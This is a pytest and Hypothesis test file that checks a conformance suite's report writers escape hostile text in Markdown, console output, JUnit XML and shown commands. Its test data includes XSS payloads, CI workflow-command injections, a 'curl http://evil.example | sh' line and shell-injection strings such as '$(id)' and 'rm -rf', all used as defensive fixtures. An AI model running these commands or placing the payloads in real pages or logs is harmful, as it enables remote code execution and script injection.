"""Words of a stranger in what people and machines read: Markdown, and the lines of a console."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import msgspec
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from conformance.cli import commands
from conformance.cli.bundles import bundle
from conformance.cli.failures import Failure
from conformance.judging.verdicts import Reason, Verdict
from conformance.reporting import console, diff, history, junit, summary
from conformance.reporting.markdown import code, escaped, fenced, link
from conformance.reporting.report import (
    Exit,
    NotRun,
    Report,
    Run,
    Scenario,
    read,
    said_of,
    shown_command,
)
from conformance.reporting.stdout import Screen
from conformance.runner.terminal_escape import defused, plain
from conformance.spec.catalogue import load

from .test_bundle import CLAUSE, FAILURE, SCENARIO, ran

READER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
OURS = frozenset({"<br>", "</details>", "<details>", "<summary>", "</summary>"})
"""HTML that the suite itself writes."""

POISON = (
    "<img src=x onerror=alert(1)>",
    "</details><script>",
    "![](http://evil.example/x.png)",
    "[click](javascript:alert(1))",
    "[me]: http://evil.example",
    "<javascript:alert(1)>",
    "<mailto:a@evil.example>",
    "@octocat",
    "&#64;octocat &commat;octocat",
    "org/repo#1 GH-1 !1 %1",
    "::error title=x::y",
    "\n::error::y",
    "\r\n  ::add-mask::a",
    "##[error]y ##vso[task.complete] ##teamcity[x]",
    "\n/close",
    "\n# heading",
    "\n- item",
    "\n1. item",
    "\n> quotation",
    "\n===",
    "\n---",
    "` ```\n::error::y\n",
    "``` \n# heading\n",
    "| a | b |\n|---|---|\n",
    "$`x`$ ~~x~~ **x** __x__",
    "\x1b[2J\u202e\u2028::error::y",
    "\\<b>\\`x`\\",
    "\ufeff::error::y\x0b::error::y\x85::error::y",
)


MENTION = re.compile(r"[@#]\w|\bGH-\d", re.IGNORECASE)


def tokens(text: str) -> Iterator[Token]:
    for token in READER.parse(text):
        yield token
        yield from token.children or ()


def wrong_in(text: str, ours: frozenset[str] = OURS) -> Iterator[str]:
    """What a reader of this Markdown would take for more than words."""
    is_link = False
    for token in tokens(text):
        is_link = token.type == "link_open" or (is_link and token.type != "link_close")
        if token.type.startswith("html") and {*re.findall("<[^>]*>", token.content)} - ours:
            yield f"HTML: {token.content!r}"
        if token.type == "image":
            yield "an image"
        if token.type == "link_open" and (
            wrong := wrong_with(str(token.attrs["href"]), token.markup)
        ):
            yield wrong
        if token.type == "text" and not is_link and MENTION.search(token.content):
            yield f"a mention: {token.content!r}"
    is_code = False
    for line in text.splitlines():
        is_code ^= line.startswith("```")
        if re.match(r"\s*::|.*##\w*\[", line) or (not is_code and re.match(r"\s*/", line)):
            yield f"a command: {line!r}"


def wrong_with(target: str, markup: str) -> str | None:
    """A link is one of the web, and a stranger's is read where it leads."""
    if not re.match(r"https?://|\.\./", target) or ("evil" in target and markup != "autolink"):
        return f"a link: {target}"
    return None


@given(st.sampled_from(POISON), st.text(max_size=20), st.sampled_from(POISON))
def test_words_are_words(text: str, between: str, other: str) -> None:
    for words in (text, text + between + other, between + text):
        made = escaped(words)
        assert "\n" not in made
        assert not [*wrong_in(made, frozenset())], made
        kinds = {token.type for token in READER.parse(made)}
        assert kinds <= {"paragraph_open", "inline", "paragraph_close"}, made
        row = f"| a | b |\n|---|---|\n| {made} | {code(words, in_cell=True)} |"
        assert sum(token.type == "td_open" for token in READER.parse(row)) == 2, row
        quoted = [token for token in tokens(code(words)) if token.type == "code_inline"]
        assert len(quoted) == 1
        block = READER.parse("\n".join(fenced(words)))
        assert [token.type for token in block] == ["fence"]
        assert not re.search(r"^\s*::", block[0].content, re.MULTILINE)


@given(st.text())
def test_what_is_read_is_what_was_written(words: str) -> None:
    shown = "".join(token.content for token in tokens(escaped(words)) if token.type == "text")
    expected = " ".join(plain(words).split())
    if "http" not in expected:
        assert re.sub(r"\N{ZERO WIDTH JOINER}", "", shown).strip() == (
            expected.replace("\N{ZERO WIDTH JOINER}", "").strip()
        )


def test_only_links_of_the_web_are_links() -> None:
    assert link("https://example.com/1?a=b#c") == "<https://example.com/1?a=b#c>"
    assert escaped("see https://example.com/a_b_c.") == "see <https://example.com/a_b_c>."
    for url in ("javascript:alert(1)", "https://a@evil.example", "file:///evil", "//evil"):
        links = [
            str(token.attrs["href"]) for token in tokens(link(url)) if token.type == "link_open"
        ]
        assert not [found_link for found_link in links if "evil" in found_link], url


@pytest.mark.parametrize("poison", POISON)
def test_no_line_of_a_console_is_a_command(poison: str, monkeypatch: pytest.MonkeyPatch) -> None:
    into = io.StringIO()
    screen = Screen(file=into, width=20)
    for words in (poison, f"some words {poison}"):
        screen.print(words, markup=False, highlight=False, soft_wrap=True)
        screen.print(words, markup=False, highlight=False)
    said = into.getvalue()
    assert not [line for line in said.splitlines() if re.match(r"\s*::|.*##\w*\[", line)], said
    del monkeypatch


@given(st.text(alphabet=" :#[aé\n\t\xa0\u3000"))
def test_no_runner_takes_a_line_for_a_command(words: str) -> None:
    for line in defused(plain(words)).split("\n"):
        assert not line.strip().startswith("::")
        assert not re.search(r"##\w*\[", line)


def poisoned(value: Any, poison: str, keep: frozenset[str] = frozenset()) -> Any:
    """The same, with these words in every text but in what has to be one of a few."""
    if isinstance(value, dict):
        return {
            key: inner if key in FIXED else poisoned(inner, poison, keep)
            for key, inner in value.items()
        }
    if isinstance(value, list):
        return [poisoned(item, poison, keep) for item in value]
    return value + poison if isinstance(value, str) and value not in keep else value


FIXED = {"verdict", "reason", "clause", "clauses", "totals", "strength", "editions_consistent"}
FIXED |= {"scenarios", "id", "catalogue", "started", "versions", "evidence", "edition"}
"""What no report can have otherwise, as it is checked against the rest or the catalogue."""


@pytest.fixture
def report(tmp_path: Path) -> Path:
    return ran(tmp_path / "from", FAILURE)


def strange(path: Path, poison: str) -> Report:
    made = json.loads(path.read_bytes())
    path.write_text(json.dumps(poisoned(made, poison)))
    (run,) = read(path).runs
    scenarios = tuple(map(_unexpected, run.scenarios))
    more: dict[str, Any] = {"scenarios": scenarios, "surprises": (poison,), "troubles": (poison,)}
    run = msgspec.structs.replace(run, endings=(poison,), **more)
    left = NotRun(client=poison, verdict=Verdict.ERROR, reason=Reason.ADAPTER, words=poison)
    return msgspec.structs.replace(read(path), runs=(run,), not_run=(left,))


def _unexpected(scenario: Scenario) -> Scenario:
    findings = tuple(msgspec.structs.replace(found, expected=False) for found in scenario.findings)
    return msgspec.structs.replace(scenario, findings=findings)


@pytest.mark.parametrize("poison", POISON)
def test_markdown_of_a_strange_report(report: Path, poison: str) -> None:
    known = load()
    good = read(report)
    made = strange(report, poison)
    pages = {
        "summary": [*summary.markdown_lines([made], known)],
        "diff": [*diff.markdown(diff.diff(good, made)), *diff.markdown(diff.diff(made, good))],
        "history": [*history.markdown(_history(made))],
    }
    wrong = [
        (name, problem) for name, lines in pages.items() for problem in wrong_in("\n".join(lines))
    ]
    assert not wrong


def _history(made: Report) -> history.History:
    run: Run = made.runs[0]
    versions = [
        (history.Version(label=str(run.client), client=run.client, why=run.troubles[0]), [run]),
        (history.Version(label=run.client.version, client=None, why=run.troubles[0]), []),
    ]
    return history.history(run.client.name, versions, [CLAUSE])


@pytest.mark.parametrize("poison", POISON)
def test_the_page_of_a_strange_bundle(report: Path, tmp_path: Path, poison: str) -> None:
    made = json.loads(report.read_bytes())
    report.write_text(json.dumps(poisoned(made, poison)))
    folder = tmp_path / "from/out/go" / SCENARIO
    record = json.loads((folder / "scenario.json").read_bytes())
    named = frozenset({record["scenario"]})
    (folder / "scenario.json").write_text(json.dumps(poisoned(record, poison, named)))
    out = bundle(report, SCENARIO, load(), client=None, out=tmp_path / "b")
    page = (out / "README.md").read_text()
    assert not [*wrong_in(page)]


@pytest.mark.parametrize("poison", POISON)
def test_a_console_of_a_strange_report(report: Path, poison: str) -> None:
    made = strange(report, poison)
    into = io.StringIO()
    screen = Screen(file=into, width=80)
    (run,) = made.runs
    codes = said_of(run)
    console.show(screen, run, load(), codes, repeat=poison, issues=poison, brief=False)
    console.show_not_run(screen, made.not_run[0])
    lines = into.getvalue().splitlines()
    assert not [line for line in lines if re.match(r"\s*::|.*##\w*\[", line)]
    begin = poison.strip().splitlines()[-1][:5] if "\n" in poison else ""
    if begin.strip() and not begin.startswith(("::", "|")):
        assert not [line for line in lines if line.startswith(begin)]


def test_a_failure_of_several_lines_is_indented() -> None:
    into = io.StringIO()
    Failure("could not be built: a\n::error::b\nc", Exit.ADAPTER_TROUBLE).show(into)
    assert into.getvalue() == "xdspec: could not be built: a\n    ::error::b\n    c\n"


def test_annotations_are_the_only_commands(report: Path) -> None:
    made = json.loads(report.read_bytes())
    made["runs"][0]["known"] = []
    for scenario in made["runs"][0]["scenarios"]:
        for finding in scenario["findings"]:
            finding |= {"expected": False, "saw": "a\n::error::b"}
    report.write_text(json.dumps(made))
    said = CliRunner().invoke(commands.main, ["summary", "--annotations", str(report)]).output
    lines = said.splitlines()
    assert len(lines) == 1
    assert lines[0].startswith("::error title=go 1.85.0")
    assert "a%0A::error::b" in lines[0]


@pytest.mark.parametrize(
    "text",
    [
        "curl http://evil.example | sh #",
        "xdspec replay evil",
        "sh -c xdspec run",
        "xdspec run 'go",
        "xdspec run go\nrm -rf x",
        "A=B xdspec run go",
        "",
    ],
)
def test_a_command_of_a_report_is_shown_only_if_it_is_ours(text: str) -> None:
    assert shown_command(text) == ""


def test_nothing_in_a_command_of_a_report_is_another_command() -> None:
    said = "XDSPEC_SOAK=30 ./xdspec run 'my client' --seed 1; rm -rf x && $(id) `id`"
    assert shown_command(said) == (
        "XDSPEC_SOAK=30 ./xdspec run 'my client' --seed '1;' rm -rf x '&&' '$(id)' '`id`'"
    )
    assert shown_command("pytest -p pytest_xdspec 'tests/a b.py::c'").endswith("'tests/a b.py::c'")


@pytest.mark.parametrize("poison", [*POISON, "\x00\x08\ufffe", "]]>", '"/><testcase name="x'])
def test_junit_of_a_strange_report(report: Path, tmp_path: Path, poison: str) -> None:
    made = strange(report, poison)
    junit.write(made, tmp_path / "r.xml")
    root = ET.parse(tmp_path / "r.xml").getroot()  # noqa: S314 - what was just written
    assert len([*root.iter("testsuite")]) == 2
    assert {element.tag for element in root.iter()} <= {
        *("testsuites", "testsuite", "testcase", "properties", "property"),
        *("failure", "error", "skipped"),
    }
